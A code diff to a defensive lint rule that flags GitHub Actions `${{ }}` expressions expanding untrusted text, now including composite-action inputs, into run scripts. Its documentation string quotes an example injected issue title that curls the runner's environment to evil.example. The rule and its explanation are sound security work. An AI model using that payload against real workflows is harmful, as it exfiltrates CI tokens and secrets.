@@ -2,7 +2,7 @@ import { defineFileRule } from '../../engine/file-rule';
 import { safeFix, type Fix, type TextEdit } from '../../engine/fixer';
 import { addToMapping, fillEmptyPair, yamlScalar } from '../../workflows/edits';
 import { GITHUB_SCRIPT, isAttackerControlled } from '../../workflows/knowledge';
-import { expressionsIn, type Expression, type Job, type Step, type Workflow, readableWorkflow } from '../../workflows/workflow';
+import { expressionsIn, type Expression, isCompositeAction, type Job, type Step, type Workflow, readableWorkflow } from '../../workflows/workflow';
 import { asScalar, get, scalarLines, type YamlScalar } from '../../workflows/yaml';
 
 export default defineFileRule({
@@ -17,7 +17,7 @@ export default defineFileRule({
     fixable: true,
     fixApplicability: ['safe'],
     docs: {
-      what: 'Finds `${{ … }}` expressions that expand text an outsider controls (issue and pull request titles and bodies, comment bodies, branch names, commit messages) inside code: a `run:` script (any shell, `pwsh` included), the `script:` of `actions/github-script` or `jannekem/run-python-script-action`, the `cmd:` of `mikefarah/yq`. Also through an `env:` indirection: `${{ env.TITLE }}` in such code, where the step\'s, job\'s or workflow\'s `env:` sets `TITLE` from outsider text, expands that text just the same (reading `$TITLE` from the environment does not).',
+      what: 'Finds `${{ … }}` expressions that expand text an outsider controls (issue and pull request titles and bodies, comment bodies, branch names, commit messages) inside code: a `run:` script (any shell, `pwsh` included), the `script:` of `actions/github-script` or `jannekem/run-python-script-action`, the `cmd:` of `mikefarah/yq`. Also through an `env:` indirection: `${{ env.TITLE }}` in such code, where the step\'s, job\'s or workflow\'s `env:` sets `TITLE` from outsider text, expands that text just the same (reading `$TITLE` from the environment does not). In a composite action (`action.yml` with `runs.using: composite`), `${{ inputs.NAME }}` in such code is reported too, directly or through `env:`: the action cannot know what its callers pass, and a workflow that hands it an issue title or branch name makes it an injection. Those findings are medium severity and low confidence (the rule\'s own is high and high for outsider text), since most callers pass constants; the fix is the same and changes nothing for them. A workflow\'s own `inputs` (`workflow_dispatch`, `workflow_call`) are not reported.',
       why: 'GitHub substitutes the expression into the script\'s source before the shell (or Node) runs it, so the text is code, not data. An issue titled `"; curl -d "$(env)" https://evil.example #` runs that command on your runner, with the job\'s token and secrets. Passing the value through an environment variable keeps it data.',
       example: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "New issue: ${{ github.event.issue.title }}"',
       safe: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "New issue: ${ISSUE_TITLE}"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}',
@@ -37,22 +37,30 @@ export default defineFileRule({
     const workflow = readableWorkflow(context);
     if (!workflow) return;
     const text = context.text;
+    // A composite action's inputs are whatever its callers pass, an issue title included.
+    const isInput = isCompositeAction(workflow) ? (path: string) => /^inputs\.[\w-]+$/.test(path) : () => false;
     for (const job of workflow.jobs) {
       for (const step of job.steps) {
         const script = scriptOf(step);
         if (!script) continue;
         for (const expression of expressionsIn(script.scalar, text)) {
-          const tainted = expression.contexts.find(isAttackerControlled) ?? taintedThroughEnv(expression, step, job, workflow, text);
+          const attacker = expression.contexts.find(isAttackerControlled) ?? taintedThroughEnv(expression, step, job, workflow, text, isAttackerControlled);
+          const tainted = attacker ?? expression.contexts.find(isInput) ?? taintedThroughEnv(expression, step, job, workflow, text, isInput);
           if (!tainted) continue;
           const where = script.where;
           const throughEnv = tainted.startsWith('env.');
           const variable = throughEnv ? tainted.slice(4) : variableName(tainted);
           const use = USE[script.language](variable);
+          const source = attacker ? 'text an outsider chooses' : "an input of this action (its caller may pass an issue title or branch name)";
           context.report(expression.start, expression.end, {
             message: throughEnv
-              ? `\`${expression.text}\` pastes \`${variable}\`, which \`env:\` sets from text an outsider chooses, into ${where} before it runs: it becomes code run with this job's token and secrets. Read the variable instead: ${use}.`
-              : `\`${tainted}\` is text an outsider chooses, and \`${expression.text}\` pastes it into ${where} before it runs: a crafted title or branch name becomes commands run with this job's token and secrets. Pass it through the step's \`env:\` (\`${variable}: ${expression.text}\`) and use ${use} instead.`,
-            fix: () => (tainted.startsWith('env.') ? [] : moveToEnv(text, workflow, step, script, expression, variable)),
+              ? `\`${expression.text}\` pastes \`${variable}\`, which \`env:\` sets from ${source}, into ${where} before it runs: it becomes code run with this job's token and secrets. Read the variable instead: ${use}.`
+              : attacker
+                ? `\`${tainted}\` is text an outsider chooses, and \`${expression.text}\` pastes it into ${where} before it runs: a crafted title or branch name becomes commands run with this job's token and secrets. Pass it through the step's \`env:\` (\`${variable}: ${expression.text}\`) and use ${use} instead.`
+                : `\`${expression.text}\` pastes this action's input into ${where}: a caller passing an issue title runs it as code. Set \`${variable}: ${expression.text}\` in \`env:\` and use ${use}.`,
+            // Whether a caller passes untrusted text is not known here.
+            ...(attacker ? {} : { severity: 'medium' as const, confidence: 'low' as const }),
+            fix: () => (throughEnv ? [] : moveToEnv(text, workflow, step, script, expression, variable)),
           });
         }
       }
@@ -101,7 +109,7 @@ function scriptOf(step: Step): Script | undefined {
  * workflow's) sets it from outsider text: the expression expands that text into the code.
  * Returns `env.NAME` for the message.
  */
-function taintedThroughEnv(expression: Expression, step: Step, job: Job, workflow: Workflow, text: string): string | undefined {
+function taintedThroughEnv(expression: Expression, step: Step, job: Job, workflow: Workflow, text: string, isTainted: (path: string) => boolean): string | undefined {
   for (const path of expression.contexts) {
     const name = /^env\.([\w-]+)$/.exec(path)?.[1];
     if (!name) continue;
@@ -109,15 +117,16 @@ function taintedThroughEnv(expression: Expression, step: Step, job: Job, workflo
       const pair = env?.pairs.find((p) => p.key.trim().toLowerCase() === name);
       const value = asScalar(pair?.value);
       if (!pair) continue;
-      if (value && expressionsIn(value, text).some((e) => e.contexts.some(isAttackerControlled))) return `env.${pair.key.trim()}`;
+      if (value && expressionsIn(value, text).some((e) => e.contexts.some(isTainted))) return `env.${pair.key.trim()}`;
       break;
     }
   }
   return undefined;
 }
 
-/** `github.event.pull_request.head.ref` → `PR_HEAD_REF`. */
+/** `github.event.pull_request.head.ref` → `PR_HEAD_REF`; `inputs.who` → `INPUT_WHO`. */
 export function variableName(path: string): string {
+  if (path.startsWith('inputs.')) return `INPUT_${path.slice(7).toUpperCase().replace(/[^A-Z0-9_]/g, '_')}`;
   const segments = path.replace(/^github\.event\./, '').replace(/^github\./, '').split('.').filter((s) => s !== '*');
   return segments.map((s) => (s === 'pull_request' ? 'pr' : s)).join('_').toUpperCase().replace(/[^A-Z0-9_]/g, '_');
 }
